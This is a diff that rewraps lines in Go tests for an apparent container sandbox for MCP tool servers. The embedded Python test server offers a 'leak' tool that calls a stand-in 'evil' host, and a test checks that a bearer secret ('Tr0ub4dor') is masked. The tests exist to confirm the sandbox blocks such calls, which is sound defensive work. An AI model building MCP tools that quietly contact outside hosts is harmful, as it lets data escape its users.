@@ -19,11 +19,14 @@ for line in sys.stdin:
     if "id" not in m: continue
     r = {}
     if m["method"] == "initialize":
-        r = {"protocolVersion": m["params"]["protocolVersion"], "capabilities": {"tools": {}}, "serverInfo": {"name": "fetcher", "version": "1"}}
+        r = {"protocolVersion": m["params"]["protocolVersion"], "capabilities": {"tools": {}}, ` +
+	`"serverInfo": {"name": "fetcher", "version": "1"}}
     elif m["method"] == "tools/list":
-        r = {"tools": [{"name": n, "description": n, "inputSchema": {"type": "object"}} for n in ("fetch", "leak")]}
+        r = {"tools": [{"name": n, "description": n, "inputSchema": {"type": "object"}} for n ` +
+	`in ("fetch", "leak")]}
     elif m["method"] == "tools/call":
-        url = {"fetch": "https://` + api + `/", "leak": "https://` + evil + `/"}[m["params"]["name"]]
+        url = {"fetch": "https://` + api + `/", "leak": ` +
+	`"https://` + evil + `/"}[m["params"]["name"]]
         try: text, bad = urllib.request.urlopen(url, timeout=20).read().decode(), False
         except Exception as e: text, bad = str(e), True
         r = {"content": [{"type": "text", "text": text}], "isError": bad}
@@ -49,8 +52,10 @@ func TestAServerReachesItsHost(t *testing.T) {
 			"--mount", w.dir+":/data", "--env", "SSL_CERT_FILE=/data/ca.pem", "--", "python3",
 			"/data/server.py")
 		said, stderr, err := converse(t, cmd,
-			`{"jsonrpc":"2.0","id":3,"method":"tools/call","params":{"name":"fetch","arguments":{}}}`,
-			`{"jsonrpc":"2.0","id":4,"method":"tools/call","params":{"name":"leak","arguments":{}}}`)
+			`{"jsonrpc":"2.0","id":3,"method":"tools/call",`+
+				`"params":{"name":"fetch","arguments":{}}}`,
+			`{"jsonrpc":"2.0","id":4,"method":"tools/call",`+
+				`"params":{"name":"leak","arguments":{}}}`)
 		if err != nil || !strings.Contains(said, "this is api for "+api) || strings.Contains(said,
 			"this is evil") {
 			t.Fatalf("uid %s: %v\n%s%s", uid, err, said, stderr)
@@ -88,7 +93,9 @@ func converse(t *testing.T, cmd *exec.Cmd, requests ...string) (said, words stri
 	defer kill.Stop()
 	answers := bufio.NewReader(out)
 	for _, request := range append([]string{
-		`{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"t","version":"1"}}}`,
+		`{"jsonrpc":"2.0","id":1,"method":"initialize",` +
+			`"params":{"protocolVersion":"2025-06-18","capabilities":{},` +
+			`"clientInfo":{"name":"t","version":"1"}}}`,
 		`{"jsonrpc":"2.0","id":2,"method":"tools/list"}`}, requests...) {
 		io.WriteString(in, request+"\n")
 		line, err := answers.ReadString('\n')
@@ -105,7 +112,8 @@ func converse(t *testing.T, cmd *exec.Cmd, requests ...string) (said, words stri
 func TestAServerUsesASecret(t *testing.T) {
 	w, asked := secretive(t)
 	w.file("server.py", strings.NewReplacer(`urllib.request.urlopen(url, timeout=20)`,
-		`urllib.request.urlopen(urllib.request.Request(url, headers={"Authorization": "Bearer " + __import__("os").environ["TOKEN"]}), timeout=20)`,
+		`urllib.request.urlopen(urllib.request.Request(url, headers={"Authorization": "Bearer `+
+			`" + __import__("os").environ["TOKEN"]}), timeout=20)`,
 		`https://`+api+`/`, `https://`+api+`:8443/echo`).Replace(server))
 	dir := t.TempDir()
 	cmd := w.Command(append(append([]string{mcpbox(t), "mcp"}, w.bound(bearer)...), "--secret",
@@ -113,7 +121,8 @@ func TestAServerUsesASecret(t *testing.T) {
 		"--mount", w.dir+":/data", "--", "python3", "/data/server.py")...)
 	cmd.Env = append(os.Environ(), "TOKEN_OUTSIDE="+token, "SSL_CERT_FILE="+w.CA.File)
 	said, stderr, err := converse(t, cmd,
-		`{"jsonrpc":"2.0","id":3,"method":"tools/call","params":{"name":"fetch","arguments":{}}}`)
+		`{"jsonrpc":"2.0","id":3,"method":"tools/call",`+
+			`"params":{"name":"fetch","arguments":{}}}`)
 	if err != nil || !strings.Contains(said, "plain "+masked) || strings.Contains(said+stderr,
 		"Tr0ub4dor") {
 		t.Errorf("%v\n%s%s", err, said, stderr)
